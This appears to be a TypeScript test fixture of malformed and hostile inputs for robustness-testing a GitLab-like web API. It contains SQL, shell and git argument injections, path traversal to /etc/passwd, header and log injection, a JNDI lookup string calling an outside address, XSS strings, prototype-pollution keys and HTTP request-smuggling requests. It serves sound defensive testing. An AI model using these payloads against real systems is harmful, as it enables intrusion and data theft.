/** Malicious and malformed input, for robustness tests. */
import type { ParameterRule } from "../../generated/parameters.ts";

export const json = { "Content-Type": "application/json" };
const form = { "Content-Type": "application/x-www-form-urlencoded" };
const multipart = { "Content-Type": "multipart/form-data; boundary=x" };

const nested = (depth: number) => "[".repeat(depth) + "]".repeat(depth);

/** Malformed query strings, each short enough for Node, which limits the request line and headers to 16 KiB. */
export const queries: [what: string, query: string][] = [
	["a NUL", "x=%00"],
	["a NUL in a name", "x%00y=1"],
	["broken UTF-8", "x=%C3%28"],
	["bytes that are no UTF-8", "x=%FF%FE"],
	["a lone surrogate", "x=%ED%A0%80"],
	["broken percent-encoding", "x=%zz"],
	["percent-encoding with the character after 9", "x=%3:"],
	["half a percent-encoding", "x=%"],
	["10,000 nested brackets", `x${"[a]".repeat(3300)}${"[]".repeat(50)}=1`],
	["10,000 brackets of arrays", `x${"[]".repeat(5000)}=1`],
	["brackets that contradict each other", "x[a]=1&x[]=2"],
	["an object that was a text", "x=1&x[a]=2&x[]=3"],
	["an array that was an object", "x[]=1&x[a]=2"],
];

/** Malformed bodies. */
export const bodies: [what: string, headers: Record<string, string>, body: BodyInit][] = [
	["JSON that ends too early", json, '{"name": "x'],
	["JSON with a comma too many", json, '{"name": "x",}'],
	["no JSON at all", json, "name=x"],
	["JSON with a NUL", json, '{"x": "a\\u0000b"}'],
	["JSON with a NUL in a name", json, '{"a\\u0000b": 1}'],
	["JSON with a lone surrogate", json, '{"x": ["\\ud800"]}'],
	["JSON of broken UTF-8", json, bytes('{"x": "\xff\xfe"}')],
	["JSON of 10,000 nested arrays", json, `{"x": ${nested(10_000)}}`],
	["JSON of 10,000 nested objects", json, `${'{"x":'.repeat(10_000)}1${"}".repeat(10_000)}`],
	["10,000 brackets that do not close", json, "[".repeat(10_000)],
	["a form with a NUL", form, "name=a%00b"],
	["a form of broken UTF-8", form, bytes("name=\xc3\x28")],
	["a form of broken percent-encoding", form, "name=%C3%28"],
	["a form of 10,000 nested brackets", form, `x${"[a]".repeat(10_000)}=1`],
	["a form of 10,000 arrays", form, `x${"[]".repeat(10_000)}=1`],
	["a form that contradicts itself", form, "x[a]=1&x[]=2"],
	["a form of 10,000 pairs", form, "x[]=1&".repeat(10_000)],
	[
		"a multipart form that is none",
		{ "Content-Type": "multipart/form-data; boundary=x" },
		"--y\r\n\r\n",
	],
	["a multipart form without a boundary", { "Content-Type": "multipart/form-data" }, "--x--"],
	["a multipart form of broken UTF-8", multipart, bytes(partsOf(["name", "\xc3\x28"]))],
	["a multipart form of broken UTF-8 in a name", multipart, bytes(partsOf(["\xff", "x"]))],
	["a multipart form with a NUL", multipart, partsOf(["name", "a\0b"])],
	[
		"a multipart form of 4,097 pairs",
		multipart,
		partsOf(...Array.from({ length: 4097 }, () => ["x", ""] as const)),
	],
	["a body of another type", { "Content-Type": "text/xml" }, "<x/>"],
];

function partsOf(...fields: (readonly [name: string, text: string])[]): string {
	const parts = fields.map(
		([name, text]) => `--x\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${text}\r\n`,
	);
	return `${parts.join("")}--x--\r\n`;
}

function bytes(latin1: string): Uint8Array<ArrayBuffer> {
	return Uint8Array.from(latin1, (letter) => letter.charCodeAt(0));
}

/** Invalid values for parameters of each type. */
export const wrong: Record<ParameterRule["type"], unknown[]> = {
	integer: ["x", "1.5", "1e3", "0x1", true, [], [1], {}, { a: 1 }],
	number: ["x", "1.5x", "0x1", ".5", true, [], [1], {}, { a: 1 }],
	string: [[], ["x"], {}, { a: "b" }],
	boolean: ["x", 2, 1.5, [], [true], {}],
	datetime: ["x", 5, true, [], {}],
	object: ["x", 5, true, ["x"]],
	array: ["x", 5, true, { a: 1 }],
	file: ["x", "", 5, true, [], {}, { name: "x" }],
	any: [],
};

export const hugeIds = [
	"9007199254740992",
	"9223372036854775808",
	"1".repeat(1000),
	"-9223372036854775809",
];

export const dangerous = [
	"__proto__[x]=1",
	"constructor[prototype][x]=1",
	"__proto__=1",
	"constructor=1",
	"hasOwnProperty=1",
	"toString[]=1",
].join("&");

/** Injection attempts: SQL, shell, git, file system, headers, log. */
export const injections: readonly string[] = [
	"'; drop table boards; --",
	"' or '1'='1",
	"1) or (1=1",
	"$1",
	"%s%n{0}",
	"\\",
	"$(touch /tmp/forgekit-was-here)",
	"`id`",
	"; cat /etc/passwd",
	"| id",
	"--upload-pack=touch /tmp/forgekit-was-here",
	"--output=/tmp/forgekit-was-here",
	"-c core.pager=id",
	"--help",
	"@{-1}",
	":(exclude)*",
	":/Initial",
	"HEAD^{/x}",
	"ext::sh -c id",
	"../../../../etc/passwd",
	"..\\..\\..\\etc\\passwd",
	"/etc/passwd",
	".git/config",
	"....//....//config",
	"%2e%2e%2f",
	"x\r\nSet-Cookie: stolen=1",
	'x\n{"level":"error","message":"forged"}',
	"\u001b[31mred\u001b[0m",
	"\u2028\u2029\u202e",
	"$" + "{jndi:ldap://203.0.113.1/x}",
	"{{7*7}}",
	"<script>alert(1)</script>",
	"javascript:alert(1)",
	"__proto__",
	"constructor",
];

/** Raw requests that no client library would send, each on a separate connection. */
export const lines: readonly string[] = [
	"GET /api/v4/projects/2/boards HTTP/1.1\r\n\r\n",
	"GET /api/v4/projects/2/boards HTTP/9.9\r\nHost: x\r\n\r\n",
	"GET\r\n\r\n",
	"\u0000\u0001\u0002\r\n\r\n",
	"POST /api/v4/projects/2/boards HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /-/liveness HTTP/1.1\r\n\r\n",
	"POST /api/v4/projects/2/boards HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef",
	"POST /api/v4/projects/2/boards HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
	"POST /api/v4/projects/2/boards HTTP/1.1\r\nHost: x\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
	"POST /api/v4/projects/2/boards HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
	"POST /api/v4/projects/2/boards HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\n",
	`GET /${"a".repeat(20_000)} HTTP/1.1\r\nHost: x\r\n\r\n`,
	`GET / HTTP/1.1\r\nHost: x\r\n${"x: y\r\n".repeat(3000)}\r\n`,
	"GET /api/v4/audit_events\r\nX: HTTP/1.1\r\n\r\n",
	"GET /api/v4/projects/1 HTTP/1.1\r\nHost: x\r\nX-Request-Id: a\rb\r\n\r\n",
	"GET /api/v4/projects/1/repository/tree HTTP/1.1\r\nHost: x\r\n folded: yes\r\n\r\n",
	"GET http://evil.example/api/v4/audit_events HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
	"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n\r\n",
	"TRACE / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
	"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
	"GET /api/v4/projects/1/boards HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
];
